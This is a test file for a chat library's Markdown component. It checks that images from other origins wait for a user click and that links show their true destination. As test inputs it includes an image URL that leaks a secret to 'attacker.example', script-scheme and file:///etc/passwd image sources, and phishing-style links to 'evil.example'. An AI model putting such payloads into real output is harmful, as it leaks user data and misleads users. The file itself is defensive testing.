import { render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { axe } from 'vitest-axe';
import { ChatWrapper, ImageOriginsProvider, Markdown, preloadMarkdown, ToolChatProvider, createDemoTransport, createToolChat } from 'toolchat';

// jsdom's page is http://localhost:3000/: its own origin.
const images = (container: HTMLElement) => [...container.querySelectorAll('img')].map((image) => image.getAttribute('src'));

describe('Markdown images', () => {
  beforeAll(() => preloadMarkdown());

  describe('given an image from another origin', () => {
    const text = 'Here is your chart: ![sales chart](https://attacker.example/log?secret=42)';

    it('fetches nothing: it shows the alt text and a button naming the host', () => {
      const { container } = render(<Markdown text={text} />);
      expect(images(container)).toEqual([]);
      expect(screen.getByText('sales chart')).toBeTruthy();
      expect(screen.getByRole('button', { name: 'Load image from attacker.example' })).toBeTruthy();
      expect(container.innerHTML).not.toContain('attacker.example/log');
    });

    it('loads it when the user presses the button, and keeps the keyboard where the image is', async () => {
      const user = userEvent.setup();
      const { container } = render(<Markdown text={text} />);
      await user.tab();
      expect(document.activeElement).toBe(screen.getByRole('button', { name: 'Load image from attacker.example' }));
      await user.keyboard('{Enter}');
      const image = screen.getByRole('img', { name: 'sales chart' });
      expect(image.getAttribute('src')).toBe('https://attacker.example/log?secret=42');
      expect(image.getAttribute('referrerpolicy')).toBe('no-referrer');
      expect(image.hasAttribute('srcset')).toBe(false);
      expect(screen.queryByRole('button')).toBeNull();
      expect(container.contains(document.activeElement) && document.activeElement?.contains(image)).toBe(true);
    });

    it.each([
      ['a reference-style image', '![logo][l]\n\n[l]: https://cdn.example/logo.png', 'cdn.example'],
      ['a protocol-relative URL', '![logo](//cdn.example/logo.png)', 'cdn.example'],
      ['a port', '![logo](https://cdn.example:8443/logo.png)', 'cdn.example:8443'],
      ['user info before the host', '![logo](https://localhost:3000@evil.example/x.png)', 'evil.example'],
      ['an http URL', '![logo](http://cdn.example/logo.png)', 'cdn.example'],
      ['an internationalised host (in punycode)', '![logo](https://bücher.example/logo.png)', 'xn--bcher-kva.example'],
    ])('asks first for %s', (_, markdown, host) => {
      const { container } = render(<Markdown text={markdown} />);
      expect(images(container)).toEqual([]);
      expect(screen.getByRole('button', { name: `Load image from ${host}` })).toBeTruthy();
    });

    it('writes the link around an image beside it, so the button is not inside the link', () => {
      const { container } = render(<Markdown text="[![logo](https://cdn.example/logo.png)](https://site.example/home)" />);
      const button = screen.getByRole('button', { name: 'Load image from cdn.example' });
      expect(button.closest('a')).toBeNull();
      expect(screen.getByRole('link', { name: 'site.example' }).getAttribute('href')).toBe('https://site.example/home');
      expect(images(container)).toEqual([]);
    });

    it('takes its strings from the labels', () => {
      render(
        <ToolChatProvider chat={createToolChat({ readOnly: true, labels: { loadImage: (host: string) => `Bild von ${host} laden` } })}>
          <Markdown text={text} />
        </ToolChatProvider>,
      );
      expect(screen.getByRole('button', { name: 'Bild von attacker.example laden' })).toBeTruthy();
    });

    it('has no accessibility violations', async () => {
      const { container } = render(<Markdown text={`${text}\n\n[![logo](https://cdn.example/logo.png)](https://site.example)`} />);
      expect((await axe(container)).violations).toEqual([]);
    });
  });

  describe('given images the page may show', () => {
    it.each([
      ['a relative path', '![chart](/charts/1.png)', 'http://localhost:3000/charts/1.png'],
      ['the page origin', '![chart](http://localhost:3000/charts/1.png)', 'http://localhost:3000/charts/1.png'],
      ['a PNG data URL', '![dot](data:image/png;base64,iVBORw0KGgo=)', 'data:image/png;base64,iVBORw0KGgo='],
      ['a JPEG data URL', '![dot](data:image/jpeg;base64,/9j/4AAQ)', 'data:image/jpeg;base64,/9j/4AAQ'],
    ])('shows %s at once', (_, markdown, src) => {
      const { container } = render(<Markdown text={markdown} />);
      expect(images(container)).toEqual([src]);
      expect(screen.queryByRole('button')).toBeNull();
    });

    it('shows images of the origins the app trusts, from the prop or a provider', () => {
      const text = '![a](https://images.example/a.png) ![b](https://other.example/b.png)';
      const { container, unmount } = render(<Markdown text={text} imageOrigins={['https://images.example']} />);
      expect(images(container)).toEqual(['https://images.example/a.png']);
      expect(screen.getByRole('button', { name: 'Load image from other.example' })).toBeTruthy();
      unmount();
      const provided = render(
        <ImageOriginsProvider origins={['https://images.example/any/path']}>
          <Markdown text={text} />
        </ImageOriginsProvider>,
      );
      expect(images(provided.container)).toEqual(['https://images.example/a.png']);
    });

    it('ignores, with a warning, an imageOrigins entry that is no origin', () => {
      const warn = vi.spyOn(console, 'warn').mockImplementation(() => {});
      const { container } = render(<Markdown text="![a](https://images.example/a.png)" imageOrigins={['images.example']} />);
      expect(images(container)).toEqual([]);
      expect(warn).toHaveBeenCalledWith(expect.stringContaining('"images.example" is not an origin'));
    });

    it('passes ChatWrapper imageOrigins down to every answer', async () => {
      const { container } = render(
        <ChatWrapper
          transport={createDemoTransport()}
          imageOrigins={['https://images.example']}
          initialMessages={[
            { id: 'u', role: 'user', parts: [{ type: 'text', text: 'Charts?' }] },
            {
              id: 'a',
              role: 'assistant',
              parts: [{ type: 'text', text: '![ours](https://images.example/a.png) ![theirs](https://tracker.example/p.gif)' }],
            },
          ]}
        />,
      );
      const log = await screen.findByRole('log');
      await within(log).findByRole('img', { name: 'ours' });
      expect(images(container)).toEqual(['https://images.example/a.png']);
      expect(within(log).getByRole('button', { name: 'Load image from tracker.example' })).toBeTruthy();
    });
  });

  describe('given an SVG or a source that is no image', () => {
    it('asks before showing an SVG written into the answer', async () => {
      const user = userEvent.setup();
      const svg = 'data:image/svg+xml;base64,PHN2Zy8+';
      const { container } = render(<Markdown text={`![drawing](${svg})`} />);
      expect(images(container)).toEqual([]);
      await user.click(screen.getByRole('button', { name: 'Load embedded SVG image' }));
      expect(images(container)).toEqual([svg]);
    });

    it.each([
      ['javascript:', '![a cat](javascript:alert(1))'],
      ['vbscript:', '![a cat](vbscript:msgbox(1))'],
      ['file:', '![a cat](file:///etc/passwd)'],
      ['a data URL of HTML', '![a cat](data:text/html;base64,PHNjcmlwdD4=)'],
      ['an empty source', '![a cat]()'],
      ['backslashes for slashes', '![a cat](https:\\\\cdn.example/cat.png)'],
    ])('shows only the alt text for %s', (_, markdown) => {
      const { container } = render(<Markdown text={markdown} />);
      expect(images(container)).toEqual([]);
      expect(screen.queryByRole('button')).toBeNull();
      expect(container.textContent).toBe('a cat');
    });

    it('never makes an image of raw HTML', () => {
      const { container } = render(<Markdown text={'<img src="https://attacker.example/x.png" srcset="https://attacker.example/y.png 2x">'} />);
      expect(images(container)).toEqual([]);
      expect(container.textContent).toContain('<img src=');
    });
  });
});

describe('Markdown links', () => {
  beforeAll(() => preloadMarkdown());

  it.each([
    ['text that names no place', '[docs](https://example.com/guide)', 'docs (example.com)'],
    ['text that names another place', '[https://bank.example](https://evil.example/login)', 'https://bank.example (evil.example)'],
    ['user info that looks like a host', '[bank](https://bank.example@evil.example/)', 'bank (evil.example)'],
    ['an internationalised host', '[shop](https://bücher.example/)', 'shop (xn--bcher-kva.example)'],
    ['an e-mail address', '[write to us](mailto:team@example.com)', 'write to us (team@example.com)'],
    ['a reference-style link', '[docs][d]\n\n[d]: https://example.com/d', 'docs (example.com)'],
  ])('shows the destination after %s', (_, markdown, name) => {
    render(<Markdown text={markdown} />);
    const link = screen.getByRole('link', { name });
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('title')).toBe(link.getAttribute('href'));
  });

  it.each([
    ['an autolink', '<https://example.org/a>', 'https://example.org/a'],
    ['a bare URL', 'see https://example.org/a', 'https://example.org/a'],
    ['a www. link', 'see www.example.org/a', 'www.example.org/a'],
    ['a link on this page', '[settings](/settings)', 'settings'],
  ])('adds nothing to %s, whose text is its destination or this page', (_, markdown, name) => {
    render(<Markdown text={markdown} />);
    expect(screen.getByRole('link', { name })).toBeTruthy();
  });

  it('takes the destination wording from the labels', () => {
    render(
      <ToolChatProvider chat={createToolChat({ readOnly: true, labels: { linkDestination: (host: string) => `→ ${host}` } })}>
        <Markdown text="[docs](https://example.com)" />
      </ToolChatProvider>,
    );
    expect(screen.getByRole('link', { name: 'docs → example.com' })).toBeTruthy();
  });
});
